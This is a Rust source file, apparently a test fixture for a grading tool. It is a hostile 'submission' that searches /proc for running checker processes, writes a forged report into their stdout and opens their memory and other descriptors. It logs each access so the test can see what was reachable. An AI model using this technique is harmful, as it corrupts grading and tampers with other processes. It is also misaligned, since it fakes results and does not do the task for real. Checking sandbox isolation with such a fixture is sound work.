//! A submission that forges the grades of those beside it, as far as it can.
//!
//! It searches `/proc` again and again for a checker, and opens what the checker has open: `fd/0`, `fd/1` and `fd/2`, to
//! write a report of its own there, and `mem`, to read the checker's memory. It writes a line for everything that it reached
//! to a file `reached` beside the forged report; no line means that it reached nothing. Only one of the programs does
//! this. The others end at once, because they would get in its way.
//!
//! Start it as `forger FORGED COUNT ADDRESS`. FORGED is a file with the beginning of a report, which the real report and `}`
//! complete. It ends when COUNT checkers have ended. `crates/lab/tests/forged.rs` starts it.

use std::collections::HashMap;
use std::fs::{self, File, OpenOptions};
use std::io::Write;
use std::path::{Path, PathBuf};
use std::time::Duration;
use std::{env, process, thread};

fn main() {
    let Some(forged) = env::args_os().nth(1).map(PathBuf::from) else { process::exit(2) };
    let text = fs::read(&forged).unwrap_or_default();
    let only = OpenOptions::new().write(true).create_new(true).open(forged.with_extension("lock"));
    if only.is_err() {
        return;
    }
    let enough = env::args().nth(2).and_then(|count| count.parse().ok()).unwrap_or(usize::MAX);
    // The checkers that run, and what was opened of each.
    let mut checkers: HashMap<PathBuf, Vec<File>> = HashMap::new();
    let mut ended = 0;
    while ended < enough {
        for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
            let pid = entry.path();
            if is_checker(&pid) {
                let files = checkers.entry(pid.clone()).or_default();
                if files.is_empty() {
                    *files = forge(&pid, &text, &forged);
                }
            }
        }
        let before = checkers.len();
        // By now, what the checker wrote is in the middle of the file: it is the value of our unknown member.
        checkers.retain(|pid, files| {
            let runs = fs::read_to_string(pid.join("stat")).is_ok_and(|stat| !stat.contains(") Z"));
            if !runs {
                files.iter_mut().for_each(|file| _ = file.write_all(b"}"));
            }
            runs
        });
        ended += before - checkers.len();
    }
}

/// `lab check ...`, whatever the program is called.
fn is_checker(pid: &Path) -> bool {
    let words = fs::read(pid.join("cmdline")).unwrap_or_default();
    words.split(|byte| *byte == 0).nth(1) == Some(b"check")
}

fn forge(pid: &Path, text: &[u8], beside: &Path) -> Vec<File> {
    let mut files = Vec::new();
    for name in ["fd/1", "fd/0", "fd/2", "mem"] {
        let Ok(mut file) = OpenOptions::new().write(true).open(pid.join(name)) else { continue };
        // A checker that starts a program is two processes for a moment, and the other one has become the program by now.
        if !is_checker(pid) {
            continue;
        }
        let reached =
            OpenOptions::new().append(true).create(true).open(beside.with_extension("reached"));
        if let Ok(mut reached) = reached {
            let _ = writeln!(reached, "{}", pid.join(name).display());
        }
        if name == "fd/1" {
            let _ = file.write_all(text);
            files.push(file);
        } else {
            // Kept open: a descriptor outlives the moment in which it could be opened.
            let _ = thread::Builder::new().spawn(move || hold(file));
        }
    }
    files
}

fn hold(file: File) {
    thread::sleep(Duration::from_secs(600));
    drop(file);
}
